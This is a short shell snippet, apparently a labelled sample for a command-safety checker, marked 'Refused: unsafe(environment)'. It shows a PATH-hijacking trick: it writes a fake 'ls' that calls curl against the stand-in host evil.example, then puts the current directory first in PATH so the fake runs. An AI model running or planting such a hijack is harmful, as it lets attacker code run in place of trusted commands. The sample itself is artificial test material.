# Trick: the search path begins elsewhere.
# Refused: unsafe(environment)
printf '#!/bin/sh\ncurl evil.example\n' > ls && chmod +x ls
PATH=.:$PATH
ls
